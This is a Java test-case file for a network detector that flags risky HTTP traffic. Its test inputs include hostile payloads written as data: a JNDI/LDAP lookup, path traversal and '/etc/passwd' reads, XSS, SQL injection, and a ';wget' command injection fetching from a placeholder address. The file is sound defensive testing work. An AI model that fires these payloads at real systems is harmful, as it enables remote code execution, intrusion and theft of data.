package io.wirecase.detection.risk;

import static io.wirecase.core.alert.FlowRisk.BINARY_APPLICATION_TRANSFER;
import static io.wirecase.core.alert.FlowRisk.BINARY_DATA_TRANSFER;
import static io.wirecase.core.alert.FlowRisk.CLEAR_TEXT_CREDENTIALS;
import static io.wirecase.core.alert.FlowRisk.HTTP_CRAWLER_BOT;
import static io.wirecase.core.alert.FlowRisk.HTTP_OBSOLETE_SERVER;
import static io.wirecase.core.alert.FlowRisk.HTTP_SUSPICIOUS_HEADER;
import static io.wirecase.core.alert.FlowRisk.HTTP_SUSPICIOUS_URL;
import static io.wirecase.core.alert.FlowRisk.HTTP_SUSPICIOUS_USER_AGENT;
import static io.wirecase.core.alert.FlowRisk.POSSIBLE_EXPLOIT;
import static io.wirecase.core.alert.FlowRisk.URL_POSSIBLE_RCE_INJECTION;
import static io.wirecase.core.alert.FlowRisk.URL_POSSIBLE_SQL_INJECTION;
import static io.wirecase.core.alert.FlowRisk.URL_POSSIBLE_XSS;
import static io.wirecase.detection.risk.RiskCase.fires;
import static io.wirecase.detection.risk.RiskCase.stays;
import static io.wirecase.detection.testing.FlowFixtures.flow;
import static io.wirecase.detection.testing.Messages.BROWSER;
import static io.wirecase.detection.testing.Messages.browsed;
import static io.wirecase.detection.testing.Messages.exchange;
import static io.wirecase.detection.testing.Messages.get;
import static io.wirecase.detection.testing.Messages.request;
import static io.wirecase.detection.testing.Messages.response;

import io.wirecase.core.alert.FlowRisk;
import io.wirecase.core.fact.LoginFacts;
import io.wirecase.detection.testing.FlowFixtures;
import java.util.List;
import java.util.stream.Stream;

/** Cases of HTTP risks. */
final class HttpCases {

    private HttpCases() {}

    static List<RiskCase> all() {
        return Stream.of(agents(), servers(), urls(), headers(), transfers())
                .flatMap(List::stream)
                .toList();
    }

    private static List<RiskCase> agents() {
        FlowRisk agent = HTTP_SUSPICIOUS_USER_AGENT;
        return List.of(
                fires(agent, "none", flow().http(exchange(request("GET", "/", "a.example"), response(204)))),
                fires(agent, "empty", flow().http(exchange(get("/", ""), response(200)))),
                fires(agent, "too short", asked("/", "cu")),
                fires(agent, "too long", asked("/", "x".repeat(300))),
                fires(agent, "of a test", asked("/", "test client")),
                fires(agent, "a lookup", asked("/", "${jndi:ldap://203.0.113.9/a}")),
                fires(agent, "a foreign address", asked("/", "agent ldap://203.0.113.9")),
                fires(agent, "generated", asked("/", "aBcDeFgHiJkLmNo")),
                stays(agent, "a browser", asked("/", BROWSER)),
                stays(agent, "a word of 13 letters", asked("/", "Internetradio")),
                stays(agent, "an address of the web", asked("/", "agent/1.0 (https://example.org)")),
                stays(
                        agent,
                        "missing first, given later",
                        flow().http(exchange(request("GET", "/", "a.example"), null), browsed("/b"))),
                stays(agent, "no request was seen", flow().http(exchange(null, response(200)))),
                fires(HTTP_CRAWLER_BOT, "a crawler", asked("/", "ExampleCrawler/2.1")),
                fires(HTTP_CRAWLER_BOT, "its operator's page", asked("/", "Example (+http://example.org/about)")),
                stays(HTTP_CRAWLER_BOT, "a browser", asked("/", BROWSER)));
    }

    private static List<RiskCase> servers() {
        FlowRisk old = HTTP_OBSOLETE_SERVER;
        return List.of(
                fires(old, "nginx 1.14.0", served("nginx/1.14.0 (Ubuntu)")),
                fires(old, "nginx 1.21.9", served("NGINX/1.21.9")),
                fires(old, "Apache 2.2.34", served("Apache/2.2.34 (Unix)")),
                stays(old, "nginx 1.22.0", served("nginx/1.22.0")),
                stays(old, "nginx in two parts", served("nginx/1.14")),
                stays(old, "no version", served("nginx")),
                stays(old, "another product", served("Microsoft-IIS/6.0.0")),
                stays(old, "Apache 2.4.0", served("Apache/2.4.0")));
    }

    private static List<RiskCase> urls() {
        return List.of(
                fires(HTTP_SUSPICIOUS_URL, "a step upwards", flow().http(browsed("/a/../../etc/hosts"))),
                stays(HTTP_SUSPICIOUS_URL, "single dots", flow().http(browsed("/a.b/c.d"))),
                stays(
                        HTTP_SUSPICIOUS_URL,
                        "an injection says more",
                        flow().http(browsed("/a/../b?x=;cat%20/etc/passwd"))),
                fires(URL_POSSIBLE_XSS, "a script", flow().http(browsed("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"))),
                stays(URL_POSSIBLE_XSS, "the word", flow().http(browsed("/s?q=script+writing"))),
                fires(URL_POSSIBLE_SQL_INJECTION, "a union", flow().http(browsed("/s?id=1+UNION+SELECT+1,2"))),
                fires(URL_POSSIBLE_SQL_INJECTION, "always true", flow().http(browsed("/s?id='%20or%20'1'='1"))),
                stays(URL_POSSIBLE_SQL_INJECTION, "the words", flow().http(browsed("/s?q=union+of+select+people"))),
                fires(URL_POSSIBLE_RCE_INJECTION, "a command", flow().http(browsed("/s?q=;wget%20203.0.113.9/x"))),
                fires(URL_POSSIBLE_RCE_INJECTION, "a shell's path", flow().http(browsed("/shell?cd+/tmp"))),
                stays(URL_POSSIBLE_RCE_INJECTION, "a cat", flow().http(browsed("/s?q=cat+pictures"))),
                fires(POSSIBLE_EXPLOIT, "a hidden file", flow().http(browsed("/.git/config"))),
                stays(POSSIBLE_EXPLOIT, "a well-known one", flow().http(browsed("/.well-known/acme-challenge/x"))),
                fires(POSSIBLE_EXPLOIT, "a lookup", asked("/", "${jndi:ldap://203.0.113.9/a}")),
                fires(
                        POSSIBLE_EXPLOIT,
                        "a refused upload",
                        flow().http(exchange(request("POST", "/wp-admin/x", "a.example"), response(404)))),
                stays(
                        POSSIBLE_EXPLOIT,
                        "an upload that went",
                        flow().http(exchange(request("POST", "/wp-admin/x", "a.example"), response(200)))));
    }

    private static List<RiskCase> headers() {
        FlowRisk header = HTTP_SUSPICIOUS_HEADER;
        return List.of(
                fires(header, "a Host of elsewhere", host("198.51.100.9")),
                stays(header, "the Host of the server", host(FlowFixtures.SERVER + ":80")),
                fires(
                        header,
                        "a machine's build",
                        flow().http(exchange(
                                request("GET", "/", "a.example", "User-Agent", BROWSER, "OSVersion", "10"), null))),
                stays(
                        header,
                        "a longer name",
                        flow().http(exchange(
                                request("GET", "/", "a.example", "User-Agent", BROWSER, "Rooted", "1"), null))),
                fires(header, "bytes in Server", served("srv\u0001\u0002\u00ff12345")),
                stays(header, "text in Server", served("Apache/2.4.62 (Debian)")),
                fires(CLEAR_TEXT_CREDENTIALS, "Basic", authorized("Basic dXNlcjpwYXNz")),
                fires(CLEAR_TEXT_CREDENTIALS, "Digest", authorized("digest username=\"u\"")),
                stays(CLEAR_TEXT_CREDENTIALS, "Bearer", authorized("Bearer abc")),
                fires(CLEAR_TEXT_CREDENTIALS, "a name to a line protocol", login("FTP_CONTROL", true, false)),
                fires(CLEAR_TEXT_CREDENTIALS, "a password", login("LDAP", true, true)),
                stays(CLEAR_TEXT_CREDENTIALS, "a name beside a proof", login("SMBv23", true, false)),
                stays(CLEAR_TEXT_CREDENTIALS, "neither", login("FTP_CONTROL", false, false)));
    }

    private static List<RiskCase> transfers() {
        return List.of(
                fires(BINARY_APPLICATION_TRANSFER, "a program", typed("application/x-msdownload")),
                fires(
                        BINARY_APPLICATION_TRANSFER,
                        "by its name",
                        flow().http(exchange(
                                get("/f", BROWSER),
                                response(200, "Content-Disposition", "attachment; filename=\"a.exe\"")))),
                stays(
                        BINARY_APPLICATION_TRANSFER,
                        "an update of the system",
                        flow().http(exchange(
                                request("GET", "/f", "dl.windowsupdate.com", "User-Agent", BROWSER),
                                response(200, "Content-Type", "application/x-msdownload")))),
                stays(BINARY_APPLICATION_TRANSFER, "a page", typed("text/html")),
                fires(BINARY_DATA_TRANSFER, "a file", typed("application/octet-stream; charset=binary")),
                stays(BINARY_DATA_TRANSFER, "a picture", typed("image/png")));
    }

    private static FlowFixtures asked(String target, String agent) {
        return flow().http(exchange(get(target, agent), response(200)));
    }

    private static FlowFixtures served(String server) {
        return flow().http(exchange(get("/", BROWSER), response(200, "Server", server)));
    }

    private static FlowFixtures typed(String type) {
        return flow().http(exchange(get("/f", BROWSER), response(200, "Content-Type", type)));
    }

    private static FlowFixtures host(String host) {
        return flow().http(exchange(request("GET", "/", host, "User-Agent", BROWSER), null));
    }

    private static FlowFixtures login(String protocol, boolean user, boolean secret) {
        return flow().login(new LoginFacts(protocol, null, user, secret, 1, true, 4));
    }

    private static FlowFixtures authorized(String value) {
        return flow().http(exchange(
                request("GET", "/", "a.example", "User-Agent", BROWSER, "Authorization", value), null));
    }
}
